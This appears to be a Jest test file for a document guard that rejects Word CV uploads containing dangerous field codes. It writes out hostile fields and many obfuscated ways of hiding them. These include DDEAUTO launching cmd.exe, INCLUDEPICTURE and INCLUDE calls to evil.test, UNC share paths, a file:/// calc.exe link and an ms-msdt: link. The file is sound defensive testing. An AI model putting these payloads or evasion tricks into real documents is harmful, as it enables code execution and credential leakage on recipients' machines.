import { describe, expect, it } from '@jest/globals';
import { docxFile } from '../../../../../test/support/cv-files.js';
import { guardDocument } from './guard-document.js';

const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const STRICT = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
const OTHER = 'xmlns:x="http://other.test"';

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const story = (inside: string, root = 'w:document') => `<${root} xmlns:w="${WORD}"><w:p>${inside}</w:p></${root}>`;
const document = (inside: string) => docxFile({ 'word/document.xml': story(inside) });
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const told = (text: string, element = 'w:instrText') =>
  `<w:r><${element} xml:space="preserve">${escaped(text)}</${element}></w:r>`;
const field = (...pieces: string[]) =>
  `${mark('begin')}${pieces.join('')}${mark('separate')}<w:r><w:t>shown</w:t></w:r>${mark('end')}`;
const letters = (text: string) => [...text].map((letter) => told(letter));

const SPELLINGS: [string, (instruction: string) => Promise<Buffer>][] = [
  ['in one run', (text) => document(field(told(text)))],
  ['behind blanks', (text) => document(field(told(` \t\u00A0${text}`)))],
  ['in a run for each letter', (text) => document(field(...letters(text)))],
  ['in paragraphs', (text) => document(field(...letters(text).map((one) => `${one}</w:p><w:p>`)))],
  ['in small letters', (text) => document(field(told(text.replace(/^\w+/, (name) => name.toLowerCase()))))],
  ['as plain text between the marks', (text) => document(field(told(text, 'w:t')))],
  [
    'in a section of characters',
    (text) => document(field(`<w:r><w:instrText><![CDATA[${text}]]></w:instrText></w:r>`)),
  ],
  ['as a simple field', (text) => document(`<w:fldSimple w:instr="${escaped(text)}"/>`)],
  ['as a simple field in single quotes', (text) => document(`<w:fldSimple w:instr = '${escaped(text)}'/>`)],
  ['within another field', (text) => document(field(told('IF 1 = 1 '), field(told(text))))],
  [
    'within what another shows',
    (text) => document(`${mark('begin')}${told('PAGE')}${mark('separate')}${field(told(text))}`),
  ],
  ['without an end', (text) => document(`${mark('begin')}${told(text)}`)],
  ['without a beginning', (text) => document(told(text))],
  [
    'ended within a simple field',
    (text) =>
      document(
        `${mark('begin')}${told(text)}${mark('separate')}<w:fldSimple w:instr="PAGE">${mark('end')}</w:fldSimple>`,
      ),
  ],
  ['deleted', (text) => document(`<w:del>${field(told(text, 'w:delInstrText'))}</w:del>`)],
  [
    'beside a stranger’s attribute',
    (text) => document(`<w:fldSimple ${OTHER} x:instr="PAGE" w:instr="${escaped(text)}"/>`),
  ],
  [
    'with other prefixes',
    async (text) =>
      docxFile({
        'word/document.xml': story(field(told(text)))
          .replaceAll('w:', 'v:')
          .replace('xmlns:w', 'xmlns:v'),
      }),
  ],
  [
    'without prefixes',
    async (text) => docxFile({ 'word/document.xml': story(`<fldSimple xmlns="${WORD}" w:instr="${escaped(text)}"/>`) }),
  ],
  [
    'in the strict form',
    async (text) => docxFile({ 'word/document.xml': story(field(told(text))).replaceAll(WORD, STRICT) }),
  ],
  ['in a header', (text) => docxFile({ 'word/header1.xml': story(field(told(text)), 'w:hdr') })],
  ['in footnotes of another name', (text) => docxFile({ 'word/Notes.BIN': story(field(told(text)), 'w:footnotes') })],
  [
    'in another encoding',
    (text) => docxFile({ 'word/comments.xml': Buffer.from(`\uFEFF${story(field(told(text)))}`, 'utf16le') }),
  ],
];

const HOSTILE: [string, string][] = [
  ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'CV_HAS_PROGRAM'],
  ['DDE excel "C:\\\\a.xls"', 'CV_HAS_PROGRAM'],
  ['LINK Excel.Sheet.12 "C:\\\\a.xlsx" \\a', 'CV_HAS_PROGRAM'],
  ['DATABASE \\d "C:\\\\a.mdb"', 'CV_HAS_PROGRAM'],
  ['INCLUDEPICTURE "https://evil.test/a.png" \\* MERGEFORMAT \\d', 'CV_REACHES_OUT'],
  ['INCLUDEPICTURE \\\\\\\\evil.test\\\\a.png', 'CV_REACHES_OUT'],
  ['INCLUDETEXT “http://evil.test/a.docx”', 'CV_REACHES_OUT'],
  ['EMBED Package', 'CV_HAS_PROGRAM'],
  ['CONTROL Forms.A', 'CV_HAS_PROGRAM'],
  ['HTMLCONTROL Forms.A', 'CV_HAS_PROGRAM'],
  ['INCLUDE "http://evil.test/a.docx"', 'CV_REACHES_OUT'],
  ['RD "http://evil.test/a.docx"', 'CV_REACHES_OUT'],
  ['IMPORT "//evil.test/a.png"', 'CV_REACHES_OUT'],
  ['HYPERLINK "file:///C:/Windows/calc.exe"', 'CV_REACHES_OUT'],
  ['HYPERLINK\\l "top" "\\\\\\\\evil.test\\\\share"', 'CV_REACHES_OUT'],
  ['HYPERLINK "\\l" "ms-msdt:/id"', 'CV_REACHES_OUT'],
];

const HARMLESS = [
  'HYPERLINK "https://ada.example/cv?a=1&b=2" \\o "Note: my work" \\t "_blank"',
  'HYPERLINK \\l "_Toc12" \\h',
  'HYPERLINK "mailto:ada@example.test"',
  'PAGE \\* MERGEFORMAT',
  'TOC \\o "1-3" \\h \\z \\u',
  'INCLUDEPICTURE "/var/folders/x/T/com.microsoft.Word/page1image2" \\* MERGEFORMAT',
  'INCLUDEPICTURE "C:\\\\Users\\\\ada\\\\me.jpg" \\d',
  'MACROBUTTON NoMacro [Your name]',
];

const spelled = SPELLINGS.flatMap(([spelling, make]) =>
  HOSTILE.map(([told, code]) => ({ spelling, make, told, code })),
);
const harmless = SPELLINGS.flatMap(([spelling, make]) => HARMLESS.map((told) => ({ spelling, make, told })));

describe('a field of a Word document', () => {
  it.each(spelled)('is refused $spelling: $told', async ({ make, told: instruction, code }) => {
    await expect(guardDocument(await make(instruction))).rejects.toMatchObject({ code });
  });

  it.each(harmless)('is taken $spelling: $told', async ({ make, told: instruction }) => {
    expect((await guardDocument(await make(instruction))).type).toBe('docx');
  });

  it.each<[string, string]>([
    ['what a field makes', field(field(told('QUOTE 68 68 69')), told(' calc'))],
    ['a piece of another vocabulary', field(told('DDE'), `<x:a ${OTHER}>${told('X')}</x:a>`, told('AUTO calc'))],
    ['a mark of another vocabulary', `${mark('begin')}<x:a ${OTHER}>${mark('separate')}</x:a>${told('DDEAUTO calc')}`],
    ['a deleted piece', field(told('DDE'), `<w:del>${told('X', 'w:delInstrText')}</w:del>`, told('AUTO calc'))],
    ['an address that a field makes', field(told('INCLUDEPICTURE "'), field(told('QUOTE 104')), told('"'))],
    ['a link that a field makes', field(told('HYPERLINK "fi'), field(told('QUOTE 108')), told('e:///c"'))],
  ])('is refused where nobody knows what it will be told, with %s', async (_what, inside) => {
    await expect(guardDocument(await document(inside))).rejects.toMatchObject({ name: 'Refused' });
  });

  it('is taken beside forms for other versions, and in them', async () => {
    const choice = `<mc:AlternateContent xmlns:mc="http://mc.test"><mc:Choice>${field(told('PAGE'))}</mc:Choice><mc:Fallback>${field(told('PAGE'))}</mc:Fallback></mc:AlternateContent>`;
    const shown = `${mark('begin')}${told('HYPERLINK "https://ada.example"')}${mark('separate')}${choice}${mark('end')}`;
    expect((await guardDocument(await document(shown + choice))).type).toBe('docx');
  });
});
